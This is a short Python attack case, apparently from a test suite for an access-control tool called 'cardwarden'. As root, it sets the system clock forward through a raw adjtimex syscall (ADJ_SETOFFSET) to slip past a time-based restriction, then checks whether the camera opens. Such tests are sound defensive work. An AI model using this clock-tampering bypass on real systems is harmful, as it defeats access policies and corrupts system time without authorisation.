#!/usr/bin/env python3
# Set the clock to after the restriction (adjtimex), and open the camera
# as: root
# stands: nothing: no hook sees what adjtimex does
# expect: open as root
# why: the wall clock is believed when it is later than all that was seen
# listed: the clock set forward by `adjtimex(2)`
# start: hours
import ctypes
import struct
import subprocess
import time

import bpf
from attack import attempt, syscall

offset = 3_800_000_000 - int(time.time())
# struct timex: ADJ_SETOFFSET, the time at 72.
space = ctypes.create_string_buffer(struct.pack("I", 0x0100) + bytes(68) + struct.pack("qq", offset, 0), 208)
attempt(syscall, 159, space)
subprocess.run(["timeout", "25", "cardwarden", "sync"], capture_output=True)
bpf.is_open()
